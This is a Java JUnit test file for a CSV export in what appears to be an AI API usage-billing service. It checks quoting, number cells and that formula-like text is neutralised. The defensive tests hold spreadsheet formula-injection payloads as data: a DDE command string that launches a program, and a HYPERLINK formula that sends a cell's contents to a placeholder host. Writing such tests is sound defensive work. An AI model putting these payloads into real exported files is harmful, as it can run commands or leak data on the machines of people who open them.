package dev.fovea.usage;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class CsvTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "plain|plain",
        "with blank|with blank",
        "a,b|\"a,b\"",
        "say \"hi\"|\"say \"\"hi\"\"\"",
        "a;b|\"a;b\"",
        "ein Ümläut|ein Ümläut",
        "gpt-4o|gpt-4o",
        "a=b|a=b"
      })
  void quotesWhatHasToBe(String text, String cell) {
    assertThat(Csv.line(List.of(text))).isEqualTo(cell + "\r\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x/?\"&A1,\"y\")"
      })
  void disarmsWhatASpreadsheetWouldTakeForAFormula(String text) {
    assertThat(Csv.line(List.of(text, 1)))
        .isEqualTo("\"'" + text.replace("\"", "\"\"") + "\",1\r\n");
  }

  @Test
  void leavesNumbersNumbers() {
    assertThat(Csv.line(Arrays.asList(-5L, 0, new BigDecimal("-0.5"), true, "")))
        .isEqualTo("-5,0,-0.5,true,\r\n");
  }

  @Test
  void writesARecordWithAsManyCellsAsItsHead() {
    String line = UsageCsv.line(Records.full("req-1", Instant.parse("2026-11-21T12:00:00Z")));

    assertThat(line)
        .isEqualTo(
            "req-1,2026-11-21T12:00:00Z,acme,key_1,gpt-4o,openai,gpt-4o-2024-11-20,1253,19,1000,"
                + "234,100,222,7,true,5000,3000,11,0.000005,1920,410,3,900000,350000,interrupted,"
                + "backend_unavailable\r\n");
    assertThat(line.split(",", -1)).hasSameSizeAs(UsageCsv.head().split(",", -1));
  }

  @Test
  void writesATotalWithAsManyCellsAsItsHead() {
    UsageRecord full = Records.full("req-1", Instant.EPOCH);
    var total =
        new UsageTotal(
            "=evil", new UsageTotal.Requests(1, 2, 3, 4), full.tokens(), 3, full.charge());

    assertThat(UsageCsv.line(total))
        .isEqualTo("\"'=evil\",10,1,2,3,4,1253,19,1000,234,100,222,7,3,5000,3000,11,0.000005\r\n");
    assertThat(UsageCsv.line(total).split(",", -1))
        .hasSameSizeAs(UsageCsv.head(Grouping.MODEL).split(",", -1));
  }
}
